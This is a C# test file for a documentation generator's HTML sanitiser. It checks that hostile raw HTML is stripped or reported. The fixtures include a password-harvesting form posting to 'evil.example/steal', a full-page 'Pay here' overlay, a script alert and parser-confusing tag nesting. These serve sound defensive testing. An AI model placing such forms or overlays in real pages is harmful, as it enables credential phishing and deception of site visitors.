using Hotpass.Docs.Tests.TestSupport;

namespace Hotpass.Docs.Tests.Render.Markdown;

/// <summary>The sanitiser on hostile raw HTML: its own parser failures cost one page, forms and overlays are
/// removed with a warning, and content it drops is reported instead of vanishing.</summary>
public sealed class SanitiserHardeningTests
{
    [Theory]
    [InlineData("<select><xmp><select></xmp>\n\n<table><select><xmp>x</select></table>\n")]
    public void A_sanitiser_parser_failure_is_reported_at_the_page_and_the_build_goes_on(string body)
    {
        using var site = new TempSite();
        site.Page("fine.md", "Fine").Page("odd.md", "Odd", body);
        var result = site.Build();
        var d = Assert.Single(result.Diagnostics);
        Assert.Equal("HPD131", d.Code);
        Assert.Equal("content/odd.md(4,1)", d.Location.ToString());
        Assert.Equal(1, result.ExitCode);
    }

    [Fact]
    public void A_password_form_posting_elsewhere_is_removed_with_a_warning()
    {
        using var site = new TempSite();
        site.Page("phish.md", "Phish",
            "<form action=\"https://evil.example/steal\" method=\"post\"><label>Password <input type=\"password\" name=\"p\"></label><button>Sign in</button></form>\n\n- [x] done\n");
        var result = site.Build();
        var html = Prose(site.Read("phish.html"));
        Assert.DoesNotContain("<form", html, StringComparison.Ordinal);
        Assert.DoesNotContain("type=\"password\"", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<button", html, StringComparison.Ordinal);
        Assert.Contains("type=\"checkbox\"", html, StringComparison.Ordinal); // task lists keep their checkboxes
        var d = Assert.Single(result.Diagnostics, d => d.Code == "HPD211");
        Assert.Contains("<form> element", d.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("fixed")]
    [InlineData("sticky")]
    public void A_page_covering_overlay_loses_its_position_with_a_warning(string position)
    {
        using var site = new TempSite();
        site.Page("overlay.md", "Overlay", $"<div style=\"position: {position}; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999\">Pay here</div>\n");
        var result = site.Build();
        Assert.DoesNotContain("position", site.Read("overlay.html"), StringComparison.Ordinal);
        Assert.Contains(result.Diagnostics, d => d.Code == "HPD211" && d.Message.Contains("style 'position' on <div>", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("Intro.\n\n<style>\n\nThe whole rest of the page.\n\n## Later section\n\nMore.\n", "style", "(6,1)")]
    [InlineData("Intro <math> inline text\nand the rest of the paragraph\n\nMore.\n", "math", "(4,7)")]
    public void An_unclosed_element_that_swallows_text_is_reported(string body, string tag, string at)
    {
        using var site = new TempSite();
        site.Page("open.md", "Open", body);
        var result = site.Build();
        var d = Assert.Single(result.Diagnostics, d => d.Code == "HPD133");
        Assert.StartsWith($"Sanitising dropped content: <{tag}> element with ", d.Message, StringComparison.Ordinal);
        Assert.EndsWith("characters of text (it is never closed, so it took the text after it)", d.Message, StringComparison.Ordinal);
        Assert.Equal("content/open.md" + at, d.Location.ToString());
    }

    [Fact]
    public void A_closed_style_or_a_script_is_removed_without_a_dropped_content_warning()
    {
        using var site = new TempSite();
        site.Page("ok.md", "Ok", "<style>p { color: red }</style>\n\n<script>alert(1)</script>\n\nText.\n");
        Assert.DoesNotContain(site.Build().Diagnostics, d => d.Code == "HPD133");
    }

    [Fact]
    public void A_lone_input_is_removed_with_a_warning()
    {
        using var site = new TempSite();
        site.Page("in.md", "In", "Your password: <input type=\"password\" name=\"p\">\n");
        var result = site.Build();
        Assert.DoesNotContain("<input", Prose(site.Read("in.html")), StringComparison.Ordinal);
        Assert.Contains(result.Diagnostics, d => d.Code == "HPD211" && d.Message.Contains("<input> element", StringComparison.Ordinal));
    }

    /// <summary>The page's article body: the theme's own search box and buttons are not page input.</summary>
    private static string Prose(string html)
    {
        var start = html.IndexOf("<div class=\"prose\">", StringComparison.Ordinal);
        var end = html.IndexOf("</article>", start, StringComparison.Ordinal);
        return html[start..end];
    }
}
